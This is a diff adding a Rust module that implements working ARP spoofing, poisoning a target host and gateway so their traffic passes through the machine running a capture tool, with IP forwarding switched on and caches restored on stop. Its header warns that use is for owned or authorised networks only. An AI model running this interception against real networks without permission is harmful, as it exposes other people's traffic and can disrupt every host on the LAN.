@@ -0,0 +1,306 @@
+//! Native ARP spoofing, so traffic between another host and the gateway is routed
+//! through this machine and shows up in the capture (see `--arp-spoof`).
+//!
+//! WARNING: ARP spoofing intercepts other people's traffic. Only use it on networks
+//! you own or have explicit written permission to test. Doing this on anyone else's
+//! network is illegal in most jurisdictions and can disrupt every host on the LAN.
+//! When stopped, the spoofer re-announces the real addresses so both caches recover
+//! without waiting for their entries to expire.
+use std::{
+    env,
+    error::Error,
+    net::Ipv4Addr,
+    path::Path,
+    process::Command,
+    sync::{atomic::{AtomicBool, Ordering}, Arc},
+    thread::{self, JoinHandle},
+    time::{Duration, Instant},
+};
+use pnet::datalink::{self, Channel, DataLinkReceiver, DataLinkSender, NetworkInterface};
+use pnet::packet::{
+    arp::{ArpHardwareTypes, ArpOperation, ArpOperations, ArpPacket, MutableArpPacket},
+    ethernet::{EtherTypes, EthernetPacket, MutableEthernetPacket},
+    MutablePacket, Packet,
+};
+use pnet::util::MacAddr;
+
+// Gratuitous replies are repeated this often so the victims never re-learn the real address,
+// unless `--spoof-interval` says otherwise
+pub const DEFAULT_POISON_INTERVAL: Duration = Duration::from_secs(2);
+// Outside this range `--spoof-interval` is allowed but warned about: faster floods the LAN with
+// ARP, slower lets the victims' cache entries expire and traffic slip past between replies
+pub const MIN_SAFE_POISON_INTERVAL: Duration = Duration::from_millis(500);
+pub const MAX_SAFE_POISON_INTERVAL: Duration = Duration::from_secs(30);
+// Shortest interval accepted at all; below it the reply loop would all but spin
+pub const MIN_POISON_INTERVAL: Duration = Duration::from_millis(100);
+// How long to wait for the target and gateway to answer an ARP request
+const RESOLVE_TIMEOUT: Duration = Duration::from_secs(3);
+// Corrective replies sent on stop; a few in case one is lost
+const RESTORE_REPLIES: usize = 3;
+// Ethernet header plus an IPv4-over-Ethernet ARP body
+const ARP_FRAME_LEN: usize = 42;
+// External programs the spoofer runs: `sysctl` switches IP forwarding on and back off
+const REQUIRED_TOOLS: [&str; 1] = ["sysctl"];
+
+// One side of the spoof: `victim` is told that `impersonated` lives at our MAC
+#[derive(Clone, Copy)]
+struct Poison {
+    victim_ip: Ipv4Addr,
+    victim_mac: MacAddr,
+    impersonated_ip: Ipv4Addr,
+    // The real owner of `impersonated_ip`, announced again on stop
+    impersonated_mac: MacAddr,
+}
+
+// Re-announces the real MACs to both victims when dropped. Armed before the first forged
+// reply is sent, so however the spoofer goes away (stop, an early `?` return, a panic
+// unwinding through `main`) the caches are repaired; only an abort or SIGKILL skips it.
+// SIGINT and SIGTERM are caught in `main` before the spoofer starts and end the run normally.
+struct SpoofGuard {
+    tx: Box<dyn DataLinkSender>,
+    sides: [Poison; 2],
+    // Nothing to repair until `start` has poisoned anyone
+    armed: bool,
+}
+
+impl Drop for SpoofGuard {
+    fn drop(&mut self) {
+        if !self.armed {
+            return;
+        }
+        for _ in 0..RESTORE_REPLIES {
+            for poison in &self.sides {
+                let frame = arp_frame(ArpOperations::Reply, poison.impersonated_mac, poison.impersonated_ip, poison.victim_mac, poison.victim_ip);
+                let _ = self.tx.send_to(&frame, None);
+            }
+            thread::sleep(Duration::from_millis(200));
+        }
+    }
+}
+
+// Background threads poisoning the target and the gateway until stopped or dropped. Dropping
+// restores the caches and forwarding too, see `SpoofGuard`. Built with `new`, configured with
+// `with_interval` and then `start`ed:
+//     ArpSpoofer::new("eth0", target, gateway)?.with_interval(Duration::from_secs(5)).start()?
+pub struct ArpSpoofer {
+    iface: NetworkInterface,
+    our_mac: MacAddr,
+    // How often each victim is sent a forged reply; fixed once the threads start
+    arp_interval: Duration,
+    stop: Arc<AtomicBool>,
+    threads: Vec<JoinHandle<()>>,
+    // Taken once the threads have stopped, so the repair is never overwritten by a late forged reply
+    guard: Option<SpoofGuard>,
+    // `net.ipv4.ip_forward` before we turned it on, restored on stop
+    previous_forwarding: Option<String>,
+}
+
+impl ArpSpoofer {
+    // Get ready to place this host between `target_ip` and `gateway_ip` on `interface`, in both
+    // directions. Only the two MACs are looked up here; nothing is poisoned before `start`
+    pub fn new(interface: &str, target_ip: Ipv4Addr, gateway_ip: Ipv4Addr) -> Result<Self, Box<dyn Error>> {
+        require_tools(&REQUIRED_TOOLS)?;
+        let iface = datalink::interfaces()
+            .into_iter()
+            .find(|i| i.name == interface)
+            .ok_or_else(|| format!("Interface '{}' not found", interface))?;
+        let (our_mac, our_ip) = interface_addresses(&iface)?;
+
+        let (mut tx, mut rx) = open_channel(&iface)?;
+        let target_mac = resolve_mac(&mut *tx, &mut *rx, our_mac, our_ip, target_ip)?;
+        let gateway_mac = resolve_mac(&mut *tx, &mut *rx, our_mac, our_ip, gateway_ip)?;
+        let sides = [
+            Poison { victim_ip: target_ip, victim_mac: target_mac, impersonated_ip: gateway_ip, impersonated_mac: gateway_mac },
+            Poison { victim_ip: gateway_ip, victim_mac: gateway_mac, impersonated_ip: target_ip, impersonated_mac: target_mac },
+        ];
+
+        Ok(Self {
+            iface,
+            our_mac,
+            arp_interval: DEFAULT_POISON_INTERVAL,
+            stop: Arc::new(AtomicBool::new(false)),
+            threads: Vec::with_capacity(2),
+            guard: Some(SpoofGuard { tx, sides, armed: false }),
+            previous_forwarding: None,
+        })
+    }
+
+    // Repeat the forged replies every `interval` instead of `DEFAULT_POISON_INTERVAL`,
+    // but never faster than `MIN_POISON_INTERVAL`
+    pub fn with_interval(mut self, interval: Duration) -> Self {
+        self.arp_interval = interval.max(MIN_POISON_INTERVAL);
+        self
+    }
+
+    // Turn on forwarding and start poisoning both sides
+    pub fn start(mut self) -> Result<Self, Box<dyn Error>> {
+        let Some(guard) = self.guard.as_mut() else {
+            return Err("ARP spoofer was already stopped".into());
+        };
+        let sides = guard.sides;
+        guard.armed = true;
+        // Without forwarding the intercepted traffic would simply be dropped. From here on a
+        // failure drops `self`, which undoes whatever was already set up
+        self.previous_forwarding = enable_ip_forwarding()?;
+        for poison in sides {
+            let (tx, _) = open_channel(&self.iface)?;
+            let (our_mac, interval, stop) = (self.our_mac, self.arp_interval, Arc::clone(&self.stop));
+            self.threads.push(thread::spawn(move || run_poison(tx, our_mac, poison, interval, &stop)));
+        }
+
+        eprintln!(
+            "ARP spoofing {} <-> {} on {} every {:.1}s",
+            sides[0].victim_ip,
+            sides[1].victim_ip,
+            self.iface.name,
+            self.arp_interval.as_secs_f64()
+        );
+        Ok(self)
+    }
+
+    // Stop poisoning, repair both ARP caches and put IP forwarding back as it was
+    pub fn stop(mut self) {
+        self.restore();
+    }
+
+    // Safe to call twice: the threads and the saved setting are taken on the first call
+    fn restore(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        for thread in self.threads.drain(..) {
+            let _ = thread.join();
+        }
+        drop(self.guard.take());
+        if let Some(previous) = self.previous_forwarding.take() {
+            let _ = Command::new("sysctl").args(["-w", &format!("net.ipv4.ip_forward={}", previous)]).output();
+        }
+    }
+}
+
+impl Drop for ArpSpoofer {
+    fn drop(&mut self) {
+        self.restore();
+    }
+}
+
+fn run_poison(mut tx: Box<dyn DataLinkSender>, our_mac: MacAddr, poison: Poison, interval: Duration, stop: &AtomicBool) {
+    let mut last_sent: Option<Instant> = None;
+    while !stop.load(Ordering::Relaxed) {
+        if last_sent.is_none_or(|sent| sent.elapsed() >= interval) {
+            let frame = arp_frame(ArpOperations::Reply, our_mac, poison.impersonated_ip, poison.victim_mac, poison.victim_ip);
+            let _ = tx.send_to(&frame, None);
+            last_sent = Some(Instant::now());
+        }
+        // Short sleeps keep `stop` responsive between replies, and never overshoot a short interval
+        thread::sleep(interval.min(Duration::from_millis(100)));
+    }
+}
+
+// Fail before touching the network if a program the spoofer runs is missing
+fn require_tools(tools: &[&str]) -> Result<(), Box<dyn Error>> {
+    let dirs: Vec<_> = env::var_os("PATH").map(|path| env::split_paths(&path).collect()).unwrap_or_default();
+    match tools.iter().find(|tool| !dirs.iter().any(|dir| is_executable(&dir.join(tool)))) {
+        Some(tool) => Err(format!("'{}' was not found in PATH; ARP spoofing needs it to turn on IP forwarding", tool).into()),
+        None => Ok(()),
+    }
+}
+
+fn is_executable(path: &Path) -> bool {
+    use std::os::unix::fs::PermissionsExt;
+    path.metadata().is_ok_and(|meta| meta.is_file() && meta.permissions().mode() & 0o111 != 0)
+}
+
+type EthernetChannel = (Box<dyn DataLinkSender>, Box<dyn DataLinkReceiver>);
+
+fn open_channel(iface: &NetworkInterface) -> Result<EthernetChannel, Box<dyn Error>> {
+    let config = datalink::Config { read_timeout: Some(Duration::from_millis(200)), ..Default::default() };
+    match datalink::channel(iface, config)? {
+        Channel::Ethernet(tx, rx) => Ok((tx, rx)),
+        _ => Err(format!("Interface '{}' is not an Ethernet device", iface.name).into()),
+    }
+}
+
+fn interface_addresses(iface: &NetworkInterface) -> Result<(MacAddr, Ipv4Addr), Box<dyn Error>> {
+    let mac = iface.mac.ok_or_else(|| format!("Interface '{}' has no MAC address", iface.name))?;
+    let ip = iface
+        .ips
+        .iter()
+        .find_map(|ip| match ip {
+            pnet::ipnetwork::IpNetwork::V4(net) => Some(net.ip()),
+            _ => None,
+        })
+        .ok_or_else(|| format!("Interface '{}' has no IPv4 address", iface.name))?;
+    Ok((mac, ip))
+}
+
+// Ask who has `ip` and wait for the reply
+fn resolve_mac(
+    tx: &mut dyn DataLinkSender,
+    rx: &mut dyn DataLinkReceiver,
+    our_mac: MacAddr,
+    our_ip: Ipv4Addr,
+    ip: Ipv4Addr,
+) -> Result<MacAddr, Box<dyn Error>> {
+    let request = arp_frame(ArpOperations::Request, our_mac, our_ip, MacAddr::broadcast(), ip);
+    tx.send_to(&request, None);
+
+    let started = Instant::now();
+    while started.elapsed() < RESOLVE_TIMEOUT {
+        // Read timeouts surface as errors; keep waiting until the deadline
+        let Ok(data) = rx.next() else {
+            continue;
+        };
+        let Some(ethernet) = EthernetPacket::new(data) else {
+            continue;
+        };
+        if ethernet.get_ethertype() != EtherTypes::Arp {
+            continue;
+        }
+        if let Some(arp) = ArpPacket::new(ethernet.payload()) {
+            if arp.get_operation() == ArpOperations::Reply && arp.get_sender_proto_addr() == ip {
+                return Ok(arp.get_sender_hw_addr());
+            }
+        }
+    }
+    Err(format!("No ARP reply from {}", ip).into())
+}
+
+// An Ethernet frame carrying one ARP message from `sender` to `target`
+fn arp_frame(operation: ArpOperation, sender_mac: MacAddr, sender_ip: Ipv4Addr, target_mac: MacAddr, target_ip: Ipv4Addr) -> [u8; ARP_FRAME_LEN] {
+    let mut frame = [0u8; ARP_FRAME_LEN];
+    let mut ethernet = MutableEthernetPacket::new(&mut frame).expect("frame holds an Ethernet header");
+    ethernet.set_destination(target_mac);
+    ethernet.set_source(sender_mac);
+    ethernet.set_ethertype(EtherTypes::Arp);
+
+    let mut arp = MutableArpPacket::new(ethernet.payload_mut()).expect("frame holds an ARP body");
+    arp.set_hardware_type(ArpHardwareTypes::Ethernet);
+    arp.set_protocol_type(EtherTypes::Ipv4);
+    arp.set_hw_addr_len(6);
+    arp.set_proto_addr_len(4);
+    arp.set_operation(operation);
+    arp.set_sender_hw_addr(sender_mac);
+    arp.set_sender_proto_addr(sender_ip);
+    // Requests leave the target hardware address unknown
+    arp.set_target_hw_addr(if operation == ArpOperations::Request { MacAddr::zero() } else { target_mac });
+    arp.set_target_proto_addr(target_ip);
+    frame
+}
+
+// Turn on IPv4 forwarding, returning the previous setting
+fn enable_ip_forwarding() -> Result<Option<String>, Box<dyn Error>> {
+    let previous = Command::new("sysctl")
+        .args(["-n", "net.ipv4.ip_forward"])
+        .output()
+        .ok()
+        .filter(|output| output.status.success())
+        .map(|output| String::from_utf8_lossy(&output.stdout).trim().to_string());
+    if previous.as_deref() == Some("1") {
+        return Ok(None);
+    }
+
+    let output = Command::new("sysctl").args(["-w", "net.ipv4.ip_forward=1"]).output()?;
+    if !output.status.success() {
+        return Err(format!("sysctl failed: {}", String::from_utf8_lossy(&output.stderr).trim()).into());
+    }
+    Ok(previous)
+}